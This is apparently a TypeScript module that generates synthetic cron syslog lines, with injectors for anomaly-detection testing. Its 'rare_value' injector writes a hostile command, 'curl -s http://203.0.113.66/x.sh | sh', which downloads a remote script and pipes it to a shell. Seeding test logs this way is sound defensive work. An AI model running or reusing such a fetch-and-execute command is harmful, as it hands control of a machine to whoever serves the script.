import { syslogTime } from '../timestamps';
import type { LogStream, PlannedLine } from '../types';

interface Job {
  user: string;
  command: string;
  everyMinutes: number;
}

const JOBS: readonly Job[] = [
  {
    user: 'root',
    command: 'command -v debian-sa1 > /dev/null && debian-sa1 1 1',
    everyMinutes: 10,
  },
  { user: 'www-data', command: '/usr/local/bin/rotate-sessions --quiet', everyMinutes: 5 },
  { user: 'root', command: 'cd / && run-parts --report /etc/cron.hourly', everyMinutes: 60 },
];

const MINUTE_MS = 60_000;

function write(atMs: number, host: string, pid: number, text: string): PlannedLine {
  return { atMs, message: `${syslogTime(atMs)} ${host} CRON[${pid}]: ${text}` };
}

function run(atMs: number, host: string, pid: number, { user, command }: Job): PlannedLine[] {
  return [
    write(atMs, host, pid, `pam_unix(cron:session): session opened for user ${user} by (uid=0)`),
    write(atMs + 10, host, pid + 1, `(${user}) CMD (${command})`),
    write(atMs + 700, host, pid, `pam_unix(cron:session): session closed for user ${user}`),
  ];
}

/** The cron daemon: the same jobs by the clock, which makes their absence news. */
export function cronStream(host: string): LogStream {
  return {
    host,
    service: 'cron',
    format: 'cron',
    gapMs: (atMs) => 5 * MINUTE_MS - (atMs % (5 * MINUTE_MS)) + 1000,
    work: (atMs, choose) =>
      JOBS.filter(({ everyMinutes }) => Math.floor(atMs / MINUTE_MS) % everyMinutes === 0).flatMap(
        (job, i) => run(atMs + i * 40, host, choose.integer(2000, 31_000), job),
      ),
    injectors: {
      new_pattern: (atMs, choose) => [
        write(atMs, host, choose.integer(2000, 31_000), '(CRON) error (grandchild #4711 failed)'),
      ],
      rare_value: (atMs, choose) =>
        run(atMs, host, choose.integer(2000, 31_000), {
          user: 'nobody',
          command: 'curl -s http://203.0.113.66/x.sh | sh',
          everyMinutes: 0,
        }),
    },
  };
}
